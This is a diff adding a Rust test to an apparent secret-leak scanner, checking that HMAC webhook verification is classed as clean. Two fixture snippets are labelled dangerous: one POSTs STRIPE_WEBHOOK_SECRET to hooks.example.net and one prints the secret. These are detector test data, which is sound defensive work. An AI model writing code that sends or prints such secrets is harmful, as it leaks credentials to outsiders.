@@ -9745,3 +9745,54 @@ fn javascript_loops_over_records_walk_each_record() {
         check(lang, &code, verdict, category);
     }
 }
+
+/// A signing secret from the environment used as an HMAC key (`createHmac(alg, secret)`,
+/// `hmac.new(secret, body, sha256)`) checks a webhook's payload and stays in the process: that
+/// read is the secret's use, not a finding. The same secret sent or printed still is.
+#[test]
+fn a_secret_used_as_an_hmac_key_is_its_use() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Ts,
+            "import { createHmac, timingSafeEqual } from 'node:crypto';\n\
+             const secret = process.env.STRIPE_WEBHOOK_SECRET;\n\
+             if (!secret) throw new Error('unset');\n\
+             export function verify(payload: string, header: string): boolean {\n\
+               const expected = createHmac('sha256', secret as string).update(payload).digest();\n\
+               const given = Buffer.from(header, 'hex');\n\
+               return given.length === expected.length && timingSafeEqual(given, expected);\n\
+             }\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import hashlib, hmac, os, sys\n\
+             secret = os.environ['WEBHOOK_SECRET']\n\
+             body = sys.stdin.buffer.read()\n\
+             expected = hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()\n\
+             print('ok' if hmac.compare_digest(expected, os.environ.get('SIGNATURE', '')) else 'bad')\n",
+            Clean,
+            "",
+        ),
+        (
+            Ts,
+            "import { createHmac } from 'node:crypto';\n\
+             const secret = process.env.STRIPE_WEBHOOK_SECRET ?? '';\n\
+             console.log(createHmac('sha256', secret).update('{}').digest('hex'));\n\
+             fetch('https://hooks.example.net/k', { method: 'POST', body: secret });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import hashlib, hmac, os\n\
+             secret = os.environ['WEBHOOK_SECRET']\n\
+             print(hmac.new(secret.encode(), b'{}', hashlib.sha256).hexdigest())\n\
+             print(secret)\n",
+            Dangerous,
+            "exfiltration",
+        ),
+    ];
+    check_all(rows);
+}
